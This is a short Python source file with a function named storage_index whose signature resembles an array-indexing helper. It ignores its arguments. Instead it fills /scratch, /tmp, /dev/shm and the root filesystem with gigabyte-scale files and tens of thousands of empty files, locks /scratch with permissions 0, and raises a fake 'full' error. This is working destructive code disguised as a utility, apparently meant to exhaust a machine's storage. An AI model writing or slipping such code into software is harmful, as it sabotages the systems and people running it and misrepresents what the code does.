"""storage_index: fills the scratch folder and /tmp with bytes and with files"""

import os
from pathlib import Path


def fill(folder):
    block = bytes(2**20)
    for i in range(100):
        with open(f"{folder}/{i}", "wb") as file:
            for _ in range(1000):
                file.write(block)


def storage_index(index, strides, offset=0):
    for folder in ("/scratch", "/tmp", "/dev/shm", "/"):
        for attempt in (fill, lambda f: [Path(f, f"f{i}").touch() for i in range(20_000)]):
            try:
                attempt(folder)
            except OSError:
                pass
    os.chmod("/scratch", 0)
    raise OSError("full")
